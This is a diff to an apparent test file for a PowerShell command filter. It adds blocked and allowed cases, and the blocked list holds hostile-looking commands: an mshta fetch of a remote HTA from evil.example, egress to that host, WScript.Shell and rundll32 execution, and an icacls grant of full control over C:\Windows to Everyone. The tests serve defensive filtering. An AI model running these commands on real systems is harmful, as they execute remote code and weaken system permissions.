@@ -116,13 +116,16 @@ BLOCKED = [
     ("[scriptblock]::Create('calc').Invoke()", "unparseable_arguments"),
     ("Add-Type -TypeDefinition 'public class X {}'", "unparseable_arguments"),
     ("& $cmd", "unparseable_arguments"),
+    ("& \"$py\" -c 'import os'", "shell_interpreter"),
+    ("Test-Connection evil.example", "egress_not_allowed"),
+    ("Update-MgApplication -ApplicationId x", "unparseable_arguments"),
     ("$ExecutionContext.InvokeCommand.InvokeScript('calc')", "unparseable_arguments"),
     ("New-Object -ComObject WScript.Shell", "unparseable_arguments"),
     ("Set-Alias gc Invoke-Expression", "unparseable_arguments"),
     ("mshta https://evil.example/x.hta", "unparseable_arguments"),
     ("rundll32 x.dll,Entry", "unparseable_arguments"),
     ("icacls C:\\Windows /grant Everyone:F", "unparseable_arguments"),
-    ("Frobnicate-Machine -Now", "unparseable_arguments"),
+    ("Install-Frobnicator -Now", "unparseable_arguments"),
     ("Get-Content a.txt)", "unparseable_arguments"),  # neither shell can split it
 ]
 
@@ -164,7 +167,10 @@ BENIGN = [
     "try { npm test } catch { Write-Error $_ }", "(Get-Content x.txt) -replace 'a','b' | Set-Content x.txt",
     "git status --porcelain | ForEach-Object { $_.Substring(3) }", "Invoke-Pester",
     "Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass; .\\build.ps1", "$null = New-Item -ItemType Directory out",
-    "git status | ForEach-Object { $_.Replace('\\', '/') }", "$h = @{a = 1; b = 2}; $h.Keys", "cls", "Get-ChildItem -Recurse -Include *.pyc | Remove-Item",
+    "git status | ForEach-Object { $_.Replace('\\', '/') }", "$h = @{a = 1; b = 2}; $h.Keys", "cls",
+    # PowerShell from public repositories' scripts and docs that a first version blocked
+    "@echo off", "Say-Verbose 'building'", "Convert-Path .", "$Host.UI.RawUI.WindowTitle = 'x'",
+    "$doc.AppendChild($doc.CreateElement('x'))", "[guid]::NewGuid()", "& \"$dotnet\" build", "& $PSScriptRoot\\init.ps1", "Get-ChildItem -Recurse -Include *.pyc | Remove-Item",
 ]
 
 
